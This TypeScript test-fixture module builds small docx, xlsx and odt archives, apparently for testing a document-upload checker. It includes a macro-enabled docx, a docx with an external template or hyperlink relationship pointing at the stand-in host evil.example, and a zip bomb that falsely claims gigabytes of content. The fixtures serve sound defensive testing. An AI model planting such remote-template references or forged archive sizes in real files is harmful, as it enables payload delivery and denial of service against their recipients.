import { strToU8, zipSync } from 'fflate'

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml'
const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml'
export const DOCX_TYPE = `${WORD}.document`
export const XLSX_TYPE = `${SHEET}.sheet`
export const ODT_TYPE = 'application/vnd.oasis.opendocument.text'

type Parts = Record<string, string | Uint8Array>

export const anArchive = (parts: Parts): Buffer =>
  Buffer.from(
    zipSync(
      Object.fromEntries(
        Object.entries(parts).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part]),
      ),
    ),
  )

const typesOf = (main: string) =>
  `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`
const relations = (inner = '') => `<?xml version="1.0"?><Relationships>${inner}</Relationships>`

/** A document of a word processor, as far as a check sees it. */
export const aDocx = (parts: Parts = {}): Buffer =>
  anArchive({
    '[Content_Types].xml': typesOf(`${WORD}.document.main+xml`),
    '_rels/.rels': relations(),
    'word/document.xml': '<w:document/>',
    ...parts,
  })

export const anXlsx = (parts: Parts = {}): Buffer =>
  anArchive({
    '[Content_Types].xml': typesOf(`${SHEET}.sheet.main+xml`),
    'xl/workbook.xml': '<w/>',
    ...parts,
  })

export const anOdt = (parts: Parts = {}): Buffer =>
  anArchive({ mimetype: ODT_TYPE, 'content.xml': '<office/>', ...parts })

export const aMacroDocx = () =>
  aDocx({ '[Content_Types].xml': typesOf('application/vnd.ms-word.document.macroEnabled.main+xml') })

/** A relationship that is fetched, or pressed. */
export const aDocxThatRefers = (
  type: 'attachedTemplate' | 'hyperlink',
  mode = 'TargetMode="External"',
  part = 'word/_rels/settings.xml.rels',
) =>
  aDocx({
    [part]: relations(
      `<Relationship Id="r" Type="http://x/relationships/${type}" Target="https://evil.example/t" ${mode}/>`,
    ),
  })

/** Says that it holds gigabytes. */
export function aBomb(): Buffer {
  const bomb = aDocx({ 'word/media/zeros.bin': new Uint8Array(1000) })
  const at = bomb.lastIndexOf(Buffer.from('word/media/zeros.bin')) - 46
  bomb.writeUInt32LE(0xf0_00_00_00, at + 24)
  return bomb
}
